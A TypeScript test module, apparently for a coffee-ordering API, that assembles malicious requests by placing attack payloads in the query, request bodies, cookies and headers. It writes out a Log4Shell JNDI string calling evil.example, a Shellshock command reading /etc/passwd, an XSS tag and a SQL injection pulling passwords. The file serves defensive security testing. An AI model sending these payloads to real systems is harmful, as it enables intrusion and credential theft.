import { payloads, probedPaths, scanners } from './attack-payloads.ts';
import type { Sent } from './client.ts';

export interface Attack {
  readonly name: string;
  readonly sent: Sent;
}

const json = { 'content-type': 'application/json' };
const order = { items: [{ productId: 'latte', size: 'large', options: [], quantity: 1 }] };

/** Where a payload is put. */
const places: Readonly<Record<string, (payload: string) => Sent>> = {
  'the query': (payload) => ({ path: `/v1/orders?customerId=${encodeURIComponent(payload)}` }),
  'a body': (payload) => ({
    method: 'POST',
    path: '/v1/orders',
    headers: { ...json, 'idempotency-key': 'attack' },
    body: JSON.stringify({ ...order, customerId: payload }),
  }),
  'a reason': (payload) => ({
    method: 'POST',
    path: '/v1/orders/0b7d1c0e-3c0a-5c1a-9d0e-0a1b2c3d4e5f/actions',
    headers: json,
    body: JSON.stringify({ action: 'reject', reason: payload }),
  }),
};

/** Which payloads are also tried in headers: those that a log viewer, a template or a query may come across. */
const inCookies = ['cross-site scripting', 'SQL injection'] as const;
const inAgents = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack.
  '${jndi:ldap://evil.example/a}',
  '() { :; }; /bin/bash -c "cat /etc/passwd"',
  '<script>alert(1)</script>',
  "' UNION SELECT password FROM users--",
] as const;

/** Every attack that is one well-formed request. */
export const attacks: readonly Attack[] = [
  ...Object.entries(payloads).flatMap(([kind, list]) =>
    list.flatMap((payload) =>
      Object.entries(places).map(([place, put]) => ({
        name: `${kind} in ${place}: ${payload}`,
        sent: put(payload),
      })),
    ),
  ),
  ...inCookies.flatMap((kind) =>
    payloads[kind].slice(0, 10).map((payload) => ({
      name: `${kind} in a cookie: ${payload}`,
      sent: { path: '/v1/menu', headers: { cookie: `session=${encodeURIComponent(payload)}` } },
    })),
  ),
  ...inAgents.flatMap((payload) =>
    ['user-agent', 'referer'].map((header) => ({
      name: `${header}: ${payload}`,
      sent: { path: '/v1/menu', headers: { [header]: payload } },
    })),
  ),
  ...scanners.map((agent) => ({
    name: `scanner ${agent}`,
    sent: { path: '/v1/menu', headers: { 'user-agent': agent } },
  })),
  ...probedPaths.map((path) => ({ name: `probe of ${path}`, sent: { path } })),
];
